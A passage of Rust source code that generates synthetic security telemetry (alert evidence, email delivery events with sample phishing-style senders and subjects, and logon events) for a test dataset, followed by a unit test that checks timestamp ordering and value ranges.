        arcs(&["Machine", "User", "File", "Process", "Ip", "Url"]),
        &entity,
    );
    let role: Vec<usize> = (0..n).map(|_| usize::from(r.chance(0.3))).collect();
    b.str_codes("EvidenceRole", arcs(&["Impacted", "Related"]), &role);
    let np = PROCESSES.len();
    let file: Vec<usize> = entity
        .iter()
        .map(|e| if matches!(e, 2 | 3) { r.below(np) } else { np })
        .collect();
    let mut fnames = w.file_names.clone();
    fnames.push(Arc::from(""));
    let mut shas = w.file_sha.clone();
    shas.push(Arc::from(""));
    b.str_codes("FileName", fnames, &file);
    b.str_codes("SHA256", shas, &file);
    let np_ip = w.public_ips.len();
    let ip: Vec<usize> = entity
        .iter()
        .map(|e| if *e == 4 { r.below(np_ip) } else { np_ip })
        .collect();
    let mut ips = w.public_ips.clone();
    ips.push(Arc::from(""));
    b.str_codes("RemoteIP", ips, &ip);
    let nd = w.device_ids.len();
    let dev: Vec<usize> = entity
        .iter()
        .map(|e| {
            if matches!(e, 0 | 2 | 3) {
                w.device(r)
            } else {
                nd
            }
        })
        .collect();
    let mut ids = w.device_ids.clone();
    ids.push(Arc::from(""));
    let mut names = w.device_names.clone();
    names.push(Arc::from(""));
    b.str_codes("DeviceId", ids, &dev);
    b.str_codes("DeviceName", names, &dev);
    let nu = w.user_names.len();
    let user: Vec<usize> = entity
        .iter()
        .map(|e| if *e == 1 { w.user(r) } else { nu })
        .collect();
    let mut users = w.user_names.clone();
    users.push(Arc::from(""));
    b.str_codes("AccountName", users, &user);
}

fn gen_email(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    let senders_ext = [
        "noreply@microsoft.com",
        "billing@paypa1-secure.example",
        "newsletter@contoso-news.example",
        "hr@fabrikam.com",
        "invoices@tailspintoys.example",
        "it-support@c0ntoso.example",
        "alerts@github.com",
    ];
    let mut senders: Vec<Arc<str>> = arcs(&senders_ext);
    senders.extend(w.user_emails.iter().cloned());
    let subjects = arcs(&[
        "Quarterly results",
        "Invoice #4471 overdue",
        "Your password expires today",
        "Team lunch on Friday",
        "Action required: verify your account",
        "Re: project timeline",
        "Shared document: Budget 2024.xlsx",
        "Weekly newsletter",
        "Security alert for your account",
        "Meeting notes",
    ]);
    let mut ids = Vec::with_capacity(n);
    let mut snd = Vec::with_capacity(n);
    let mut rcp = Vec::with_capacity(n);
    let mut subj = Vec::with_capacity(n);
    let mut threat = Vec::with_capacity(n);
    let mut action = Vec::with_capacity(n);
    let mut loc = Vec::with_capacity(n);
    let mut dir = Vec::with_capacity(n);
    let mut att = Vec::with_capacity(n);
    for _ in 0..n {
        ids.push(r.guid());
        let external = r.chance(0.6);
        snd.push(if external {
            r.below(senders_ext.len())
        } else {
            senders_ext.len() + 4 + r.below(w.user_emails.len() - 4)
        });
        rcp.push(4 + r.below(w.user_emails.len() - 4));
        subj.push(r.below(subjects.len()));
        let t = if external {
            r.weighted(&[80, 8, 4, 8])
        } else {
            0
        };
        threat.push(t);
        let (a, l) = match t {
            0 => (0, 0),
            3 => (1, 1),
            _ => {
                if r.chance(0.7) {
                    (2, 2)
                } else {
                    (3, 2)
                }
            }
        };
        action.push(a);
        loc.push(l);
        dir.push(if external {
            0
        } else if r.chance(0.5) {
            1
        } else {
            2
        });
        att.push(if r.chance(0.7) {
            0
        } else {
            1 + r.below(3) as i64
        });
    }
    b.str_col("NetworkMessageId", arcs(&ids), |i| i);
    b.str_codes("SenderFromAddress", senders, &snd);
    b.str_codes("RecipientEmailAddress", w.user_emails.clone(), &rcp);
    b.str_codes("Subject", subjects, &subj);
    b.str_codes(
        "DeliveryAction",
        arcs(&["Delivered", "Junked", "Blocked", "Replaced"]),
        &action,
    );
    b.str_codes(
        "DeliveryLocation",
        arcs(&["Inbox/folder", "Junk folder", "Quarantine"]),
        &loc,
    );
    b.str_codes(
        "ThreatTypes",
        arcs(&["", "Phish", "Malware", "Spam"]),
        &threat,
    );
    b.str_codes(
        "EmailDirection",
        arcs(&["Inbound", "Outbound", "Intra-org"]),
        &dir,
    );
    b.int_col("AttachmentCount", DataType::Int, |i| att[i]);
}

fn gen_identity(b: &mut Builder, w: &World, r: &mut Rng) {
    let n = b.n;
    let mut action = Vec::with_capacity(n);
    let mut app = Vec::with_capacity(n);
    let mut ltype = Vec::with_capacity(n);
    let mut proto = Vec::with_capacity(n);
    let mut user = Vec::with_capacity(n);
    let mut dev = Vec::with_capacity(n);
    let mut ip = Vec::with_capacity(n);
    let mut loc = Vec::with_capacity(n);
    let mut fail = Vec::with_capacity(n);
    let nd = w.device_names.len();
    for _ in 0..n {
        let failed = r.chance(0.12);
        action.push(usize::from(failed));
        let a = r.weighted(&[50, 30, 10, 10]);
        app.push(a);
        ltype.push(if a == 0 {
            r.weighted(&[50, 30, 20])
        } else {
            3 + r.below(2)
        });
        proto.push(if a == 0 { r.weighted(&[60, 30, 10]) } else { 3 });
        user.push(4 + r.below(w.user_names.len() - 4));
        dev.push(if a == 0 { w.device(r) } else { nd });
        ip.push(if a == 0 {
            r.below(w.device_ips.len())
        } else {
            w.device_ips.len() + r.below(w.public_ips.len())
        });
        loc.push(if a == 0 {
            0
        } else {
            r.weighted(&[60, 10, 10, 8, 7, 5])
        });
        fail.push(if failed {
            1 + r.weighted(&[60, 15, 15, 10])
        } else {
            0
        });
    }
    let mut devs = w.device_names.clone();
    devs.push(Arc::from(""));
    let ips: Vec<Arc<str>> = w
        .device_ips
        .iter()
        .chain(w.public_ips.iter())
        .cloned()
        .collect();
    b.str_codes(
        "ActionType",
        arcs(&["LogonSuccess", "LogonFailed"]),
        &action,
    );
    b.str_codes(
        "Application",
        arcs(&[
            "Active Directory",
            "Microsoft 365",
            "Microsoft Azure",
            "Office 365 Exchange Online",
        ]),
        &app,
    );
    b.str_codes(
        "LogonType",
        arcs(&[
            "Resource access",
            "Credentials validation",
            "Interactive",
            "Login:login",
            "OAuth2:Authorize",
        ]),
        &ltype,
    );
    b.str_codes("Protocol", arcs(&["Kerberos", "Ntlm", "LDAP", ""]), &proto);
    b.str_codes("AccountUpn", w.user_upns.clone(), &user);
    b.str_codes("AccountName", w.user_names.clone(), &user);
    let domains: Vec<Arc<str>> = w
        .user_domains
        .iter()
        .map(|d| Arc::from(format!("{d}.com")))
        .collect();
    b.str_codes("AccountDomain", domains, &user);
    b.str_codes("DeviceName", devs, &dev);
    b.str_codes("IPAddress", ips, &ip);
    b.str_codes("Location", arcs(&["", "US", "GB", "DE", "IN", "NL"]), &loc);
    b.str_codes(
        "FailureReason",
        arcs(&[
            "",
            "WrongPassword",
            "UnknownUser",
            "AccountDisabled",
            "AccountLocked",
        ]),
        &fail,
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sorted_and_in_range() {
        let cfg = DatasetConfig {
            rows_per_table: 2000,
            anchor_unix_ms: 1_700_000_000_000,
            ..DatasetConfig::default()
        };
        let ds = Dataset::generate(&cfg);
        let anchor = cfg.anchor_unix_ms * TICKS_PER_MS;
        for t in ds.tables() {
            let ts = t.timestamps();
            assert_eq!(ts.len(), 2000, "{}", t.name());
            assert!(ts.windows(2).all(|w| w[0] <= w[1]));
            assert!(ts[0] >= anchor - 40 * TICKS_PER_DAY);
            assert!(*ts.last().unwrap() < anchor);
            for c in &t.data {
                if let ColumnData::Str { dict, codes } = c {
                    assert!(codes.iter().all(|c| (*c as usize) < dict.len()));
                }
            }
        }
    }
}
